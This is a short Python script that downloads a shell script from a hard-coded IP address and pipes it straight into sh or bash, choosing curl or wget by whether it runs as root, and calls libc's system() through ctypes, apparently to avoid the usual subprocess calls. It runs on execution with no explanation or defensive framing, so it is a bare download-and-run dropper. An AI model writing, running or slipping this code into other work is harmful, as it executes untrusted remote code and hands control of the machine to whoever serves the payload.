import ctypes
import ctypes.util
import os

URL = "http://203.0.113.9/x.sh"


def libc():
    return ctypes.CDLL(ctypes.util.find_library("c"))


def run(line):
    return libc().system(line.encode())


def main():
    cmd = "curl -fsSL " + URL + " | sh"
    if os.geteuid() != 0:
        cmd = "wget -qO- " + URL + " | bash"
    run(cmd)


main()
